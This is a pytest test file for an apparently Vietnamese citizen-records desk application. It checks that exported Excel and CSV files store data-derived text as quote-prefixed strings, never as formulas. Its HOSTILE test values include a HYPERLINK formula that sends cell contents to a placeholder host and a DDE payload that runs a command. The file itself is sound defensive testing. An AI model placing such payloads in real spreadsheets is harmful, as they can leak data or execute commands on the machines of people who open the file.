"""No workbook the program writes holds a formula that came from data (issue 15).

Each writer gets hostile names; the saved file is opened as a zip (no `<f>` element in any
sheet) and with openpyxl (the text is a string cell, quote-prefixed, unchanged).
"""

from __future__ import annotations

import csv
import zipfile
from dataclasses import replace
from datetime import date
from pathlib import Path

import pytest
from openpyxl import Workbook, load_workbook

from de06desk.quality.citizen_import import guess_mapping, plan_import, read_table, write_refusals
from de06desk.quality.field_lists import export_followup
from de06desk.reports.model import Table
from de06desk.reports.xlsx import write_xlsx
from de06desk.store import Store
from de06desk.workbook import append, csv_value, formula_like, save
from tests.quality.helpers import add_citizen, add_villages, write_csv
from tests.quality.test_checks import _drive, _roster
from tests.reports.samples import make_header, make_summary

LINK = '=HYPERLINK("http://x/?"&C6&D6,"Xem")'
HOSTILE = (LINK, "=1+1", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1", "\r=1")


def formula_cells(path: Path) -> list[str]:
    """Formulas stored in the workbook at `path`, read from its XML (what Excel would run)."""
    with zipfile.ZipFile(path) as z:
        return [
            name
            for name in z.namelist()
            if name.startswith("xl/worksheets/")
            and (b"<f>" in z.read(name) or b"<f " in z.read(name))
        ]


def texts(path: Path) -> dict[str, tuple[str, bool]]:
    """Every text cell of every sheet: value → (data type, quote prefix)."""
    out = {}
    for sheet in load_workbook(path).worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if isinstance(cell.value, str):
                    out[cell.value] = (cell.data_type, bool(cell.quotePrefix))
    return out


def assert_neutral(path: Path, *values: str) -> None:
    assert formula_cells(path) == []
    cells = texts(path)
    for value in values:
        assert cells[value] == ("s", True), value


@pytest.mark.parametrize("value", HOSTILE)
def test_formula_like_text_is_recognised(value: str) -> None:
    assert formula_like(value)
    assert csv_value(value) == "'" + value


@pytest.mark.parametrize("value", ["Nguyễn Văn An", "-5", "+84 912 345 678", "1.5", "", "a=b"])
def test_ordinary_text_and_signed_numbers_are_left_alone(value: str) -> None:
    assert not formula_like(value)
    assert csv_value(value) == value


def test_the_cell_writer_keeps_text_as_text(tmp_path: Path) -> None:
    book = Workbook()
    sheet = book.active
    append(sheet, ["Tên", "Số"])
    # A lone CR does not survive XML (read back as LF), so it is left out of the round trip.
    hostile = [v for v in HOSTILE if "\r" not in v]
    for value in hostile:
        append(sheet, [value, 3])
    out = save(book, tmp_path / "a.xlsx")
    assert_neutral(out, *hostile)
    rows = list(load_workbook(out).active.iter_rows(values_only=True))
    assert rows == [("Tên", "Số"), *((v, 3) for v in hostile)]


def test_followup_list_names_stay_text(store: Store, tmp_path: Path) -> None:
    village = add_villages(store, "=1+1")["=1+1"]
    drive = _drive(store, village)
    person = add_citizen(store, village, full_name=LINK, id_number="010185000123")
    _roster(store, drive, person, status="approved", approved_on=date(2026, 9, 10))
    out = export_followup(store, village, tmp_path / "theo_doi.xlsx", user="canbo")
    assert_neutral(out.path, LINK)


def test_refusals_file_keeps_hostile_cells_as_text(store: Store, tmp_path: Path) -> None:
    add_villages(store, "Thôn Đông")
    path = write_csv(
        tmp_path / "ds.csv",
        [["Họ và tên", "Năm sinh", "Thôn"], [LINK, "19x", "=1+1"], ["@SUM(A1)", "1980", "Nơi"]],
    )
    table = read_table(path)
    plan = plan_import(store, table, guess_mapping(table.headers), today=date(2026, 11, 20))
    assert len(plan.refused) == 2
    xlsx = write_refusals(plan, tmp_path / "tu_choi.xlsx")
    assert_neutral(xlsx, LINK, "=1+1", "@SUM(A1)")
    with write_refusals(plan, tmp_path / "tu_choi.csv").open(encoding="utf-8-sig") as handle:
        cells = [c for row in csv.reader(handle) for c in row]
    assert "'" + LINK in cells and "'=1+1" in cells and LINK not in cells


def test_weekly_workbook_holds_no_formula_from_a_village_name(tmp_path: Path) -> None:
    summary = make_summary(rows=3)
    places = tuple(
        ("=1+1", n) if i == 0 else (p, n) for i, (p, n) in enumerate(summary.activations_by_place)
    )
    hostile_table = Table(
        key="eid_by_village",
        title="Theo thôn",
        columns=("Thôn", "Đã kích hoạt"),
        kinds=("text", "int"),
        rows=(("=1+1", 3), (LINK, 4)),
    )
    section = replace(summary.sections[0], tables=(*summary.sections[0].tables, hostile_table))
    summary = replace(
        summary,
        unit_name="=1+1",
        activations_by_place=places,
        sections=(section, *summary.sections[1:]),
    )
    out = write_xlsx(summary, make_header(unit_name="@SUM(A1)"), tmp_path / "r.xlsx")
    assert_neutral(out, "=1+1", LINK, "@SUM(A1)")
